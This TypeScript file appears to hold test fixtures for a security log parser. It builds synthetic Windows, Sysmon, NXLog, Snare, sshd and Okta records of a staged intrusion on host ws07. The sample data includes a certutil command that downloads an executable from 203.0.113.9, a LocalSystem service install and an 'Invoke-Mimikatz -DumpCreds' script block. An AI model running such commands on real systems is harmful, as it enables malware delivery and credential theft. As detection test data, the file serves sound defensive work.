/**
 * The same few things that happened, as shippers and stores write them: field names and framing are the makers', values are
 * ours. On ws07 mallory fetched a program with certutil (4688, Sysmon 1), a service was installed (7045), a script ran (4104).
 */
export const TIME = "2026-05-04T10:20:30.123Z";
export const IMAGE = "C:\\Windows\\System32\\certutil.exe";
export const PARENT = "C:\\Windows\\System32\\cmd.exe";
export const COMMAND = "certutil.exe  -urlcache -split -f http://203.0.113.9/a.txt C:\\Users\\Public\\a.exe";
export const GUID = "{54849625-5478-4994-a5ba-3e3b0328c30d}";
export const SID = "S-1-5-21-1004336348-1177238915-682003330-1104";
export const SECURITY = "Microsoft-Windows-Security-Auditing";
export const SYSMON = "Microsoft-Windows-Sysmon";

export const created = {
  ...{ SubjectUserSid: SID, SubjectUserName: "mallory", SubjectDomainName: "CORP", SubjectLogonId: "0x5a3f1" },
  ...{ NewProcessId: "0x1a2c", NewProcessName: IMAGE, TokenElevationType: "%%1937", ProcessId: "0x11f4" },
  ...{ CommandLine: COMMAND, TargetUserSid: "S-1-0-0", TargetUserName: "-", TargetDomainName: "-" },
  ...{ TargetLogonId: "0x0", ParentProcessName: PARENT, MandatoryLabel: "S-1-16-12288" },
};
export const sysmon = {
  ...{ RuleName: "-", UtcTime: "2026-05-04 10:20:30.123", ProcessGuid: "{5a3f1e2d-1234-6637-0101-00000000aa00}" },
  ...{ ProcessId: "6700", Image: IMAGE, FileVersion: "10.0.19041.1", Description: "CertUtil.exe" },
  ...{ Product: "Microsoft Windows", Company: "Microsoft Corporation", OriginalFileName: "CertUtil.exe" },
  ...{ CommandLine: COMMAND, CurrentDirectory: "C:\\Users\\mallory\\", User: "CORP\\mallory" },
  ...{ LogonGuid: "{5a3f1e2d-1234-6637-f1a3-050000000000}", LogonId: "0x5a3f1", TerminalSessionId: "1" },
  ...{ IntegrityLevel: "High", Hashes: "SHA256=0f2d0000000000000000000000000000000000000000000000000000000000aa" },
  ...{ ParentProcessGuid: "{5a3f1e2d-1233-6637-0001-00000000aa00}", ParentProcessId: "4596", ParentImage: PARENT },
  ...{ ParentCommandLine: '"C:\\Windows\\System32\\cmd.exe" ', ParentUser: "CORP\\mallory" },
};
export const escaped = (text: string): string =>
  text.replaceAll("&", "&amp;").replaceAll("<", "&lt;").replaceAll('"', "&quot;");
export const dataXml = (data: object): string =>
  Object.entries(data)
    .map(([name, value]) => `<Data Name='${name}'>${escaped(String(value))}</Data>`)
    .join("");
export const eventXml = (head: { provider: string; id: number; channel: string }, data: object): string =>
  `<Event xmlns='http://schemas.microsoft.com/win/2004/08/events/event'><System><Provider Name='${head.provider}' Guid='${GUID}'/>` +
  `<EventID>${head.id}</EventID><Version>2</Version><Level>0</Level><Task>13312</Task><Opcode>0</Opcode>` +
  `<Keywords>0x8020000000000000</Keywords><TimeCreated SystemTime='2026-05-04T10:20:30.1230000Z'/>` +
  `<EventRecordID>4711</EventRecordID><Correlation/><Execution ProcessID='4' ThreadID='220'/><Channel>${head.channel}</Channel>` +
  `<Computer>ws07.corp.example</Computer><Security/></System><EventData>${dataXml(data)}</EventData></Event>`;
export const XML_4688 = eventXml({ provider: SECURITY, id: 4688, channel: "Security" }, created);
export const XML_SYSMON = eventXml({ provider: SYSMON, id: 1, channel: `${SYSMON}/Operational` }, sysmon);

export const MESSAGE_4688 = `A new process has been created.\r\n\r\nCreator Subject:\r\n\tSecurity ID:\t\t${SID}\r\n\tAccount Name:\t\tmallory\r\n\tAccount Domain:\t\tCORP\r\n\tLogon ID:\t\t0x5A3F1\r\n\r\nTarget Subject:\r\n\tSecurity ID:\t\tS-1-0-0\r\n\tAccount Name:\t\t-\r\n\tAccount Domain:\t\t-\r\n\tLogon ID:\t\t0x0\r\n\r\nProcess Information:\r\n\tNew Process ID:\t\t0x1a2c\r\n\tNew Process Name:\t${IMAGE}\r\n\tToken Elevation Type:\t%%1937\r\n\tMandatory Label:\t\tS-1-16-12288\r\n\tCreator Process ID:\t0x11f4\r\n\tCreator Process Name:\t${PARENT}\r\n\tProcess Command Line:\t${COMMAND}\r\n\r\nToken Elevation Type indicates the type of token that was assigned to the new process in accordance with User Account Control policy.`;
export const MESSAGE_SYSMON = [
  "Process Create:",
  ...Object.entries(sysmon).map(([name, value]) => `${name}: ${value}`),
].join("\r\n");
export const MESSAGE_7045 =
  "A service was installed in the system.\r\n\r\nService Name:  updsvc\r\nService File Name:  C:\\Users\\Public\\a.exe\r\nService Type:  user mode service\r\nService Start Type:  auto start\r\nService Account:  LocalSystem";
export const MESSAGE_4625 = `An account failed to log on.\r\n\r\nSubject:\r\n\tSecurity ID:\t\tS-1-0-0\r\n\tAccount Name:\t\t-\r\n\tAccount Domain:\t\t-\r\n\tLogon ID:\t\t0x0\r\n\r\nLogon Type:\t\t\t3\r\n\r\nAccount For Which Logon Failed:\r\n\tSecurity ID:\t\tS-1-0-0\r\n\tAccount Name:\t\tadmin\r\n\tAccount Domain:\t\tCORP\r\n\r\nFailure Information:\r\n\tFailure Reason:\t\t%%2313\r\n\tStatus:\t\t\t0xC000006D\r\n\tSub Status:\t\t0xC000006A\r\n\r\nProcess Information:\r\n\tCaller Process ID:\t0x0\r\n\tCaller Process Name:\t-\r\n\r\nNetwork Information:\r\n\tWorkstation Name:\tKALI\r\n\tSource Network Address:\t203.0.113.9\r\n\tSource Port:\t\t51234\r\n\r\nDetailed Authentication Information:\r\n\tLogon Process:\t\tNtLmSsp \r\n\tAuthentication Package:\tNTLM`;
export const SCRIPT = "Invoke-Mimikatz -DumpCreds";
export const MESSAGE_4104 = `Creating Scriptblock text (1 of 1):\r\n${SCRIPT}\r\n\r\nScriptBlock ID: 11f0a6f0-0000-4000-8000-000000000001\r\nPath: C:\\Users\\Public\\x.ps1`;

/** What must be found in a record: names of the test's rules, the host it speaks of, who acted. */
export interface Layout {
  readonly name: string;
  readonly lines: readonly (string | object)[];
  readonly header?: string;
  readonly rules: readonly string[];
  readonly host: string;
  readonly user?: string;
  readonly image?: string;
}

export const fetched = { rules: ["fetched"], host: "ws07", user: "mallory", image: IMAGE };
export const short = { ...fetched, host: "ws07" };

export const stored = (
  name: string,
  lines: readonly (string | object)[],
  rest: Omit<Layout, "name" | "lines">,
): Layout => ({
  ...{ name, lines },
  ...rest,
});

// ---- NXLog, GELF, Snare ----
export const nxlog = {
  ...{ EventTime: "2026-05-04 10:20:30", Hostname: "ws07.corp.example", Keywords: -9214364837600035000 },
  ...{ EventType: "AUDIT_SUCCESS", SeverityValue: 2, Severity: "INFO", EventID: 4688, SourceName: SECURITY },
  ...{ ProviderGuid: GUID, Version: 2, Task: 13312, OpcodeValue: 0, RecordNumber: 4711, ThreadID: 220 },
  ...{ Channel: "Security", Category: "Process Creation", Opcode: "Info" },
};
export const tail = {
  EventReceivedTime: "2026-05-04 10:20:31",
  SourceModuleName: "in",
  SourceModuleType: "im_msvistalog",
};
export const nxlogEvent = { ...nxlog, ...created, Message: MESSAGE_4688, ...tail };
export const flatMessage = (text: string): string => text.replaceAll("\r\n", "  ").replaceAll("\t", " ");
export const structured = Object.entries({ ...nxlog, ...created, ...tail })
  .map(([name, value]) => `${name}="${String(value).replaceAll("\\", "\\\\").replaceAll('"', '\\"')}"`)
  .join(" ");
export const snare = (fields: readonly (string | number)[]): string =>
  `<14>May  4 10:20:30 ws07.corp.example MSWinEventLog\t1\t${fields.join("\t")}\t4711`;
// ---- Shippers around lines and audit events ----
export const said = "Failed password for invalid user oracle from 203.0.113.9 port 51234 ssh2";
export const sshd = `May  4 10:20:30 web01 sshd[812]: ${said}`;
export const okta = {
  ...{ uuid: "u", published: TIME, eventType: "user.mfa.factor.deactivate", version: "0", severity: "INFO" },
  ...{
    displayMessage: "Reset factor for user",
    actor: { id: "a", type: "User", alternateId: "mallory@corp.example", displayName: "M" },
  },
  ...{ client: { ipAddress: "203.0.113.9", userAgent: { rawUserAgent: "x" } }, outcome: { result: "SUCCESS" } },
  target: [{ id: "b", type: "User", alternateId: "bob@corp.example" }],
};
export const ship = {
  agent: { type: "filebeat", version: "8.13.0" },
  ecs: { version: "8.0.0" },
  input: { type: "log" },
};
export const line = { rules: ["sshd"], host: "web01" };
// ---- Azure, Fluent Bit, OpenTelemetry, Wazuh, Splunk ----
export const workspace = {
  TenantId: "t",
  SourceSystem: "OpsManager",
  TimeGenerated: TIME,
  MG: "0",
  ManagementGroupName: "AOI-t",
};
